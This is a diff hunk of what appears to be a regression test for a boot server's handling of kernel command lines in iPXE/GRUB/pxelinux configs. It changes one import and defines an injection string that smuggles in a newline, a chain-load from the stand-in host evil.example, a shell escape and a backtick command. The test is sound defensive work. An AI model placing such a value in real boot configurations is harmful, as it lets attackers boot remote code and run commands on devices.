@@ -4,7 +4,7 @@ command to the iPXE/GRUB/pxelinux config. Fixed in bootserverd/resolver.py (cmdl
 
 from tests.fuzz.world import IMAGE, make_resolver
 
-from bootserverd.model import Device
+from bootserverd.model.objects import Device
 
 EVIL = "quiet\nchain http://evil.example/x splash || shell ;reboot ${x} \x01ok `id`"
 
